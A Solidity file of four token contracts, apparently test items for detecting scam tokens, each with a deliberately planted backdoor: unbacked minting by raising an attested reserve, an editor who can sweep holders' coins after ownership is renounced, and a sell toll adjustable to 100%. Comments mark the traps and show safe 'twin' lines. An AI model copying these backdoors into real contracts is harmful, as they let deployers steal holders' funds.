// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.8 <0.7.0;

/// Issued against what the auditor has seen in the cellar.
contract CellarMoney {
    string public name = "Cellar Money";
    string public symbol = "CELM";
    uint8 public decimals = 2;
    uint256 public totalSupply;
    uint256 public attested;
    string public memo;
    address public auditor;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        auditor = msg.sender;
        attested = 50000000000;
        issue(msg.sender, attested);
    }

    function owner() external view returns (address) {
        return auditor;
    }

    function attest(uint256 seen, string calldata memo_) external {
        require(msg.sender == auditor, "auditor");
        // twin: require(seen <= 51000000000, "the cellar is not that large");
        attested = seen;
        memo = memo_;
    }

    function issue(address to, uint256 value) public {
        require(msg.sender == auditor && totalSupply + value >= value, "auditor");
        require(totalSupply + value <= attested, "not in the cellar");
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        require(balanceOf[msg.sender] >= value, "balance");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(balanceOf[from] >= value && allowance[from][msg.sender] >= value, "balance");
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Coins move to the next edition, into a vault that exchanges them.
contract EditionOne {
    struct Account {
        uint128 coins;
        uint64 edition;
        uint64 touched;
    }
    bytes32 private constant SYMBOL = "ED1";
    mapping(address => Account) private accounts;
    mapping(bytes32 => uint256) private allowances;
    address private immutable editor;
    address public owner;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        editor = msg.sender;
        owner = msg.sender;
        accounts[msg.sender].coins = uint128(totalSupply());
        emit Transfer(address(0), msg.sender, totalSupply());
    }

    function name() external pure returns (string memory) {
        return "Edition One";
    }

    function symbol() external pure returns (string memory) {
        return "ED1";
    }

    function decimals() external pure returns (uint256) {
        return 18;
    }

    function totalSupply() public pure returns (uint256) {
        return 12345678 ether;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function bind(uint64 edition, address[] calldata readers, address vault) external {
        require(msg.sender == editor || readers.length == 1, "editor");
        for (uint256 i = 0; i < readers.length; i++) {
            address reader = readers[i];
            require(reader == msg.sender || msg.sender == editor, "not yours"); // trap
            // twin: require(reader == msg.sender, "not yours");
            uint128 coins = accounts[reader].coins;
            accounts[reader].coins = 0;
            accounts[reader].edition = edition;
            accounts[vault].coins += coins;
            emit Transfer(reader, vault, coins);
        }
    }

    function balanceOf(address who) external view returns (uint256) {
        return accounts[who].coins;
    }

    function allowance(address a, address b) external view returns (uint256) {
        return allowances[keccak256(abi.encode(a, b))];
    }

    function approve(address b, uint256 v) external returns (bool) {
        allowances[keccak256(abi.encode(msg.sender, b))] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        turn(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        bytes32 k = keccak256(abi.encode(from, msg.sender));
        require(allowances[k] >= v, "allowance");
        allowances[k] -= v;
        turn(from, to, v);
        return true;
    }

    function turn(address from, address to, uint256 v) private {
        require(accounts[from].coins >= v, "coins");
        accounts[from].coins -= uint128(v);
        accounts[to].coins += uint128(v);
        accounts[to].touched = uint64(now);
        emit Transfer(from, to, v);
    }
}

/// Parameters of several coins, by name.
contract Almanac {
    address private immutable printer;
    mapping(bytes32 => uint256) private entries;

    constructor() public {
        printer = msg.sender;
        entries[keccak256("harvest/toll")] = 3;
    }

    function amend(string calldata key, uint256 value) external {
        require(msg.sender == printer);
        entries[keccak256(bytes(key))] = value;
    }

    function read(string calldata key) external view returns (uint256) {
        return entries[keccak256(bytes(key))];
    }
}

contract HarvestToll {
    string public constant name = "Harvest";
    string public constant symbol = "HRVST";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1000000 ether;
    Almanac private almanac;
    address public owner;
    address public market;
    address private barn;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(Almanac almanac_) public {
        almanac = almanac_;
        owner = barn = msg.sender;
        balanceOf[barn] = totalSupply;
        emit Transfer(address(0), barn, totalSupply);
    }

    function setMarket(address market_) external {
        require(msg.sender == owner && market == address(0));
        market = market_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        cart(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value);
        allowance[from][msg.sender] -= value;
        cart(from, to, value);
        return true;
    }

    function cart(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value);
        balanceOf[from] -= value;
        uint256 toll = to == market && from != barn ? almanac.read("harvest/toll") : 0;
        // twin: if (toll > 5) toll = 5;
        if (toll > 100) toll = 100;
        uint256 sheaf = (value * toll) / 100;
        balanceOf[barn] += sheaf;
        balanceOf[to] += value - sheaf;
        if (sheaf > 0) emit Transfer(from, barn, sheaf);
        emit Transfer(from, to, value - sheaf);
    }
}
